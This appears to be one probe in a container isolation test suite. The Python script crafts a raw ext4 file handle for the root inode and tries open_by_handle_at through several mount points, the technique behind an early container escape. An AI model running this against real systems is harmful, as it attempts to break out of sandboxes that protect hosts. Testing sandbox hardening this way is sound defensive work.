"""open_by_handle_at: files by number, past every folder in between (how the first container escape worked)."""

import ctypes
import os
import struct

from kit import TARGETS, attempt, call, done

for place in ("/", TARGETS["bundle"], "."):
    mount = os.open(place, os.O_RDONLY if place != "/" else os.O_PATH)
    handle = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0) + bytes(120))  # inode 2: the root of ext4
    attempt(f"open through {place}", lambda mount=mount, handle=handle: call("open_by_handle_at", mount, handle, 0))
    ask = ctypes.create_string_buffer(struct.pack("<Ii", 120, 0) + bytes(120))
    number = ctypes.c_int()
    attempt("name", lambda ask=ask, number=number: call("name_to_handle_at", -100, b".", ask, ctypes.byref(number), 0))
done()
